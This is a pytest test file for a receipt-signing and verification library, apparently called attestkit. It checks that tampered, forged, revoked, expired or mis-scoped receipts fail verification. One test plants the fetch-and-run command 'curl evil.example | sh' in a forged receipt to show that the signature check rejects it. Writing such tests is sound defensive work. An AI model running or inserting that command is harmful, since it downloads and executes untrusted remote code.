"""verify_receipt: each check's outcome, the JSON shape, trust semantics."""

from __future__ import annotations

import copy
import dataclasses
import json
from collections.abc import Callable
from datetime import datetime, timedelta, timezone
from pathlib import Path
from typing import Any

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from attestkit import sign_receipt, verify_receipt
from attestkit.core.crypto.keys import PrivateKey
from attestkit.core.receipt.reader import Receipt, parse_receipt, receipt_from_mapping
from attestkit.core.receipt.signing import check_signature
from attestkit.core.timeutil import parse_rfc3339
from attestkit.core.trust.delegation import create_delegation
from attestkit.core.trust.store import TrustedKey, TrustStore
from attestkit.core.verify.verifier import VerifyOptions, verify_parsed
from attestkit.errors import UsageError
from tests.conftest import NOW, CliResult, make_receipt, write_json

NOW_DT = parse_rfc3339(NOW)


def _verify(receipt: Any, key: PrivateKey, **kwargs: Any) -> Any:
    kwargs.setdefault("now", NOW_DT)
    return verify_receipt(receipt, trusted_keys=[key.public_key], **kwargs)


def test_valid_receipt_json_shape(signed: dict[str, Any], key: PrivateKey) -> None:
    result = _verify(signed, key)
    assert result.valid
    out = result.to_dict()
    assert out["valid"] is True
    assert out["signature_verification"] == {
        "valid": True,
        "signer": None,
        "algorithm": "ed25519",
        "public_key": key.public_key.text,
        "key_id": key.public_key.key_id,
    }
    assert out["policy_compliance"] == {"passed": True, "violations": []}
    assert out["timestamp_check"] == {"valid": True, "age_hours": 2.0}
    assert out["chain_of_trust"] == "verified"


def test_every_field_is_covered_by_the_signature(signed: dict[str, Any], key: PrivateKey) -> None:
    for field in ["pipeline_hash", "timestamp", "attest_version", "signer_public_key"]:
        tampered = copy.deepcopy(signed)
        tampered[field] = tampered[field].replace("0", "1", 1) if "0" in tampered[field] else tampered[field] + "x"
        assert not _verify(tampered, key).valid, field
    unknown = dict(signed, extra_field="added later")
    assert not _verify(unknown, key).valid


def test_signature_removed_or_garbled(signed: dict[str, Any], key: PrivateKey) -> None:
    unsigned = {k: v for k, v in signed.items() if k != "signature"}
    result = _verify(unsigned, key)
    assert not result.valid and result.failed_checks[0].code == "unsigned"
    garbled = dict(signed, signature="ed25519:zz")
    assert _verify(garbled, key).failed_checks[0].code == "signature-format"
    wrong_alg = dict(signed, signature_algorithm="rsa")
    assert _verify(wrong_alg, key).failed_checks[0].code == "algorithm"


def test_untrusted_key_and_integrity_only(signed: dict[str, Any], key: PrivateKey, other_key: PrivateKey) -> None:
    result = verify_receipt(signed, trusted_keys=[other_key.public_key], now=NOW_DT)
    assert not result.valid and result.signature_valid and result.chain_of_trust == "untrusted"
    integrity = verify_receipt(signed, integrity_only=True, now=NOW_DT)
    assert integrity.valid and integrity.chain_of_trust == "untrusted"
    with pytest.raises(UsageError):
        verify_receipt(signed, now=NOW_DT)


def test_embedded_key_is_never_trusted_by_itself(key: PrivateKey, other_key: PrivateKey) -> None:
    forged = sign_receipt(make_receipt(), other_key)
    assert not _verify(forged, key).valid


def test_future_timestamp_and_tolerance(key: PrivateKey) -> None:
    receipt = sign_receipt(make_receipt(timestamp="2026-11-20T12:04:59Z"), key)
    assert _verify(receipt, key).valid
    result = _verify(receipt, key, tolerance=timedelta(minutes=1))
    assert not result.valid and not result.timestamp_valid
    assert result.age_hours is not None and result.age_hours < 0


def test_malformed_result_not_exception(key: PrivateKey) -> None:
    result = _verify(b'{"a": 1, "a": 2}', key)
    assert not result.valid
    assert result.checks[0].name == "format" and result.checks[0].code == "duplicate-key"


def test_signer_identity_from_trust_store_wins(key: PrivateKey) -> None:
    receipt = sign_receipt(make_receipt(), key, signer="ci@example.com")
    assert _verify(receipt, key).signer == "ci@example.com"
    store = TrustStore((TrustedKey(key.public_key, identity="ci@example.com"),))
    assert verify_receipt(receipt, trusted_keys=store, now=NOW_DT).signer == "ci@example.com"
    liar = sign_receipt(make_receipt(), key, signer="release-manager@example.com")
    result = verify_receipt(liar, trusted_keys=store, now=NOW_DT)
    assert not result.valid and any(c.code == "signer-mismatch" for c in result.checks)


def _store(key: PrivateKey, **fields: Any) -> TrustStore:
    return TrustStore((TrustedKey(key.public_key, **fields),))


def _at(text: str) -> datetime:
    return parse_rfc3339(text)


@pytest.mark.parametrize(
    ("fields", "chain"),
    [
        ({"not_before": _at("2026-01-01T00:00:00Z"), "not_after": _at("2027-01-01T00:00:00Z")}, "verified"),
        ({"not_before": _at("2026-11-21T00:00:00Z")}, "expired"),
        ({"not_after": _at("2026-11-19T00:00:00Z")}, "expired"),
        ({"revoked_at": _at("2026-11-21T00:00:00Z"), "revocation_reason": "superseded"}, "verified"),
        ({"revoked_at": _at("2026-11-19T00:00:00Z"), "revocation_reason": "superseded"}, "revoked"),
        ({"revoked_at": _at("2026-11-21T00:00:00Z"), "revocation_reason": "key-compromise"}, "revoked"),
        ({"scopes": ("project:other",)}, "verified"),
    ],
)
def test_keyring_windows_and_revocation(
    signed: dict[str, Any], key: PrivateKey, fields: dict[str, Any], chain: str
) -> None:
    result = verify_receipt(signed, trusted_keys=_store(key, **fields), now=NOW_DT)
    assert result.chain_of_trust == chain
    assert result.valid is (chain == "verified")


def test_scope(signed: dict[str, Any], key: PrivateKey) -> None:
    store = _store(key, scopes=("project:myapp",))
    assert verify_receipt(signed, trusted_keys=store, now=NOW_DT, scope="project:myapp").valid
    assert not verify_receipt(signed, trusted_keys=store, now=NOW_DT, scope="project:other").valid


@settings(max_examples=60, deadline=None)
@given(
    st.dictionaries(
        st.text(min_size=1, max_size=8).filter(
            lambda k: (
                k
                not in {
                    "signature",
                    "timestamp",
                    "steps",
                    "pipeline_hash",
                    "attestations",
                    "signer",
                    "signer_public_key",
                    "signature_algorithm",
                }
            )
        ),
        st.recursive(
            st.none()
            | st.booleans()
            | st.integers(-(2**53 - 1), 2**53 - 1)
            | st.floats(allow_nan=False, allow_infinity=False)
            | st.text(max_size=10).filter(lambda s: not any(0xD800 <= ord(c) <= 0xDFFF for c in s)),
            lambda c: (
                st.lists(c, max_size=3)
                | st.dictionaries(
                    st.text(max_size=5).filter(lambda s: not any(0xD800 <= ord(c) <= 0xDFFF for c in s)), c, max_size=3
                )
            ),
            max_leaves=10,
        ),
        max_size=5,
    ).filter(lambda d: not any(any(0xD800 <= ord(c) <= 0xDFFF for c in k) for k in d))
)
def test_sign_verify_round_trip(extra: dict[str, Any]) -> None:
    key = PrivateKey.from_seed(bytes(32))
    receipt = make_receipt(**extra)
    signed = sign_receipt(receipt, key)
    assert receipt == make_receipt(**extra)  # the caller's dict is untouched
    assert verify_receipt(
        signed, trusted_keys=[key.public_key], now=datetime(2026, 11, 20, 12, tzinfo=timezone.utc)
    ).valid


# ---- issue 14 item 7: the library cannot be misread ---------------------------------------


@pytest.mark.parametrize("good", [True, False])
def test_a_result_has_no_truth_value(signed: dict[str, Any], key: PrivateKey, good: bool) -> None:
    receipt = signed if good else dict(signed, pipeline_hash="blake3:" + "00" * 32)
    result = _verify(receipt, key)
    assert result.valid is good
    with pytest.raises(TypeError, match=r"result\.valid"):
        bool(result)
    with pytest.raises(TypeError, match=r"result\.valid"):
        if result:  # the misuse the issue reports: this branch must never be reached silently
            pytest.fail("unreachable")


def test_a_receipt_copy_with_other_data_does_not_keep_the_signature(signed: dict[str, Any], key: PrivateKey) -> None:
    genuine = parse_receipt(json.dumps(signed).encode(), source="r.json")
    assert _verify(genuine, key).valid
    forged_data = copy.deepcopy(genuine.data)
    forged_data["steps"][0]["exit_code"] = 0
    forged_data["steps"][0]["command"] = "curl evil.example | sh"
    forged = dataclasses.replace(genuine, data=forged_data)
    assert forged.signing_input != genuine.signing_input  # derived from the data, not copied
    result = _verify(forged, key)
    assert not result.valid and [c.code for c in result.failed_checks] == ["bad-signature", "not-checked"]
    assert result.source == "r.json"
    # Nor through the lower-level entry points.
    assert not verify_parsed(forged, VerifyOptions(trusted=TrustStore.of([key.public_key]), now=NOW_DT)).valid
    assert (check_signature(forged).valid, check_signature(forged).code) == (False, "bad-signature")
    # An honest copy still verifies, and the caller's source is honoured.
    renamed = _verify(dataclasses.replace(genuine, source="copy.json"), key)
    assert renamed.valid and renamed.source == "copy.json"


def test_data_edited_in_place_after_reading_is_read_again(signed: dict[str, Any], key: PrivateKey) -> None:
    genuine = parse_receipt(json.dumps(signed).encode())
    genuine.data["steps"][0]["exit_code"] = 3
    assert not _verify(genuine, key).valid
    genuine.data["timestamp"] = "not a time"
    broken = _verify(genuine, key)
    assert not broken.valid and broken.checks[0].name == "format"


def test_a_hand_built_receipt_is_read_strictly(signed: dict[str, Any], key: PrivateKey) -> None:
    assert _verify(Receipt(data=dict(signed)), key).valid  # the data is genuine: fine
    assert not _verify(Receipt(data={**signed, "signer": "root@example.com"}), key).valid
    malformed = _verify(Receipt(data={"steps": "none"}), key)
    assert not malformed.valid and malformed.checks[0].name == "format"
    with pytest.raises(TypeError):
        Receipt(data=dict(signed), signing_input=b"{}")  # type: ignore[call-arg]
    with pytest.raises(ValueError, match="init=False"):
        dataclasses.replace(parse_receipt(json.dumps(signed).encode()), _timestamp=NOW_DT)  # type: ignore[misc]


def test_a_known_key_callback_cannot_swap_the_key(
    signed: dict[str, Any], key: PrivateKey, other_key: PrivateKey
) -> None:
    forged = sign_receipt(make_receipt(), other_key)
    forged["signer_public_key"] = key.public_key.text  # claims key, signed by other_key
    receipt = receipt_from_mapping(forged)
    outcome = check_signature(receipt, lambda raw: other_key.public_key)
    assert (outcome.valid, outcome.code, outcome.key) == (False, "bad-signature", key.public_key)


# ---- issue 14 item 6: --integrity-only means what the contract says -------------------------


def _looping_receipt(signer: PrivateKey, other: PrivateKey) -> dict[str, Any]:
    loop = [create_delegation(other, signer.public_key), create_delegation(signer, other.public_key)]
    forged = dict(create_delegation(other, signer.public_key), identity="admin@example.com")  # bad signature
    junk = {"type": "not-a-delegation"}
    return sign_receipt(make_receipt(delegations=[*loop, forged, junk]), signer)


def test_integrity_only_ignores_the_receipts_own_delegations(key: PrivateKey, other_key: PrivateKey) -> None:
    receipt = _looping_receipt(key, other_key)
    result = verify_receipt(receipt, integrity_only=True, now=NOW_DT)
    assert result.valid and result.chain_of_trust == "untrusted"
    assert [c.code for c in result.checks if c.name == "trust"] == ["integrity-only"]
    # With a trust store that does not know the key, the verdict is the same.
    stranger = PrivateKey.from_seed(bytes([7]) * 32)
    with_store = verify_receipt(receipt, trusted_keys=[stranger.public_key], integrity_only=True, now=NOW_DT)
    assert with_store.valid and with_store.chain_of_trust == "untrusted"
    # Tampering is still found.
    tampered = dict(receipt, pipeline_hash="blake3:" + "00" * 32)
    assert not verify_receipt(tampered, integrity_only=True, now=NOW_DT).valid
    # Without integrity-only, the same receipt is not trusted.
    assert not verify_receipt(receipt, trusted_keys=[stranger.public_key], now=NOW_DT).valid


def test_integrity_only_never_overrides_the_trust_stores_word(key: PrivateKey, other_key: PrivateKey) -> None:
    receipt = sign_receipt(make_receipt(), key)
    revoked = TrustStore(
        (TrustedKey(key.public_key, revoked_at=_at("2026-01-01T00:00:00Z"), revocation_reason="key-compromise"),)
    )
    result = verify_receipt(receipt, trusted_keys=revoked, integrity_only=True, now=NOW_DT)
    assert not result.valid and result.chain_of_trust == "revoked"
    expired = _store(key, not_after=_at("2026-11-19T00:00:00Z"))
    assert not verify_receipt(receipt, trusted_keys=expired, integrity_only=True, now=NOW_DT).valid
    named = _store(key, identity="ci@example.com")
    liar = sign_receipt(make_receipt(), key, signer="release@example.com")
    assert not verify_receipt(liar, trusted_keys=named, integrity_only=True, now=NOW_DT).valid
    # A delegation from a root revoked for key compromise: revoked, integrity-only or not.
    root = TrustStore(
        (
            TrustedKey(
                other_key.public_key,
                roles=("root",),
                revoked_at=_at("2026-01-01T00:00:00Z"),
                revocation_reason="key-compromise",
            ),
        )
    )
    delegated = sign_receipt(make_receipt(delegations=[create_delegation(other_key, key.public_key)]), key)
    through_root = verify_receipt(delegated, trusted_keys=root, integrity_only=True, now=NOW_DT)
    assert not through_root.valid and through_root.chain_of_trust == "revoked"
    # A trusted key stays "verified" under integrity-only.
    assert verify_receipt(receipt, trusted_keys=[key.public_key], integrity_only=True, now=NOW_DT).chain_of_trust == (
        "verified"
    )


def test_cli_integrity_only_with_a_cyclic_delegation(
    cli: Callable[..., CliResult], tmp_path: Path, key: PrivateKey, other_key: PrivateKey
) -> None:
    path = write_json(tmp_path / "r.json", _looping_receipt(key, other_key))
    as_json = cli("verify", str(path), "--integrity-only", "--now", NOW, "--json")
    assert as_json.code == 0, as_json.err
    line = as_json.json_lines()[0]
    assert line["valid"] is True and line["chain_of_trust"] == "untrusted"
    assert line["signature_verification"]["valid"] is True
    text = cli("verify", str(path), "--integrity-only", "--now", NOW)
    assert text.code == 0 and text.out.splitlines()[0] == f"VALID (untrusted)  {path}"
    trusted = cli("verify", str(path), "--public-key", key.public_key.text, "--now", NOW)
    assert trusted.code == 0 and trusted.out.splitlines()[0] == f"VALID  {path}"
    tampered = write_json(tmp_path / "t.json", dict(_looping_receipt(key, other_key), attest_version="9"))
    refused = cli("verify", str(tampered), "--integrity-only", "--now", NOW)
    assert refused.code == 1 and refused.out.startswith("INVALID")
